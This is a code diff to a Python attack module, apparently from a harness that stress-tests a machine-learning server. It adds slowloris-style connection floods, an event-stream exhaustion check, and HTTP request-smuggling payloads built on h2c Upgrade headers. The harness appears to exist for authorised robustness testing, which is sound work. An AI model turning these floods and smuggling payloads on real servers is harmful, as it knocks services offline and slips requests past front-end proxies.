@@ -15,9 +15,10 @@ import numpy as np
 from attacks.costly import costly_photos, described
 from attacks.target import HOST, Target
 
-MANY = 400  # connections of one attacker, ...
+MANY = 400  # connections of one attacker, or ...
+MORE = 505  # ... more than a server takes at all, ...
 AT_ONCE = 10  # ... who opens so many in a tenth of a second: more sound requests than can be answered hold up anyone.
-
+OFFER = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"  # of another protocol
 
 Attacker: TypeAlias = Callable[[Target], None]
 
@@ -39,12 +40,12 @@ def _flood(target: Target, beginning: bytes, more: bytes, connections: int = 4) 
         thread.join()
 
 
-def _crowd(target: Target, beginning: bytes, drip: bytes, *, reads: int = 0) -> None:
+def _crowd(target: Target, beginning: bytes, drip: bytes, *, reads: int = 0, most: int = MANY) -> None:
     """Hold many connections open, send or read a little on each now and then, and open new ones for those that end."""
     with ExitStack() as stack:
         held: list[socket.socket] = []
         while target.goes_on:
-            for _ in range(min(AT_ONCE, MANY - len(held))):
+            for _ in range(min(AT_ONCE, most - len(held))):
                 with suppress(OSError):
                     connection = stack.enter_context(target.connect())
                     connection.sendall(beginning)
@@ -91,6 +92,23 @@ def slow_heads(target: Target) -> None:
 def half_open(target: Target) -> None:
     """Hold many connections on which nothing is said."""
     _crowd(target, b"", b"")
+
+
+def unfinished_bodies(target: Target) -> None:
+    """Hold many connections on each of which a small body is never whole."""
+    head = b"POST /api/predict HTTP/1.1\r\n" + HOST + target.proof
+    _crowd(target, head + b"Content-Length: 60000\r\n\r\n", b"x", most=MORE)
+
+
+def watching(target: Target) -> None:
+    """Hold more streams of events than there may be: another one may still watch."""
+    ask = b"GET /api/training/events HTTP/1.1\r\n" + HOST + target.proof + b"\r\n"
+    threading.Thread(target=_crowd, args=(target, ask, b""), daemon=True).start()
+    while target.goes_on:
+        time.sleep(0.5)
+        if not target.ask(ask, 0.5).startswith(b"HTTP/1.1 200") and target.goes_on:
+            target.found.append(("nobody else can watch a training", ask))
+            return
 
 
 def never_reading(target: Target) -> None:
@@ -149,6 +167,8 @@ def smuggling(target: Target) -> None:
         post + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n" + inner,
         post + b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + inner,
         post + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n\r\n" + inner,
+        post + OFFER + b"Content-Length: %d\r\n\r\n" % len(inner) + inner,
+        post + OFFER + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(inner) + inner,
         post + b"X: a\r\n folded: b\r\n\r\n" + inner,
         post + b"X: a\nY: b\n\n" + inner,
         post + b"X: a\rY: b\r\n\r\n" + inner,
@@ -235,6 +255,8 @@ ATTACKERS: Mapping[str, Attacker] = {
         long_heads,
         slow_heads,
         half_open,
+        unfinished_bodies,
+        watching,
         never_reading,
         reading_slowly,
         endless_bodies,
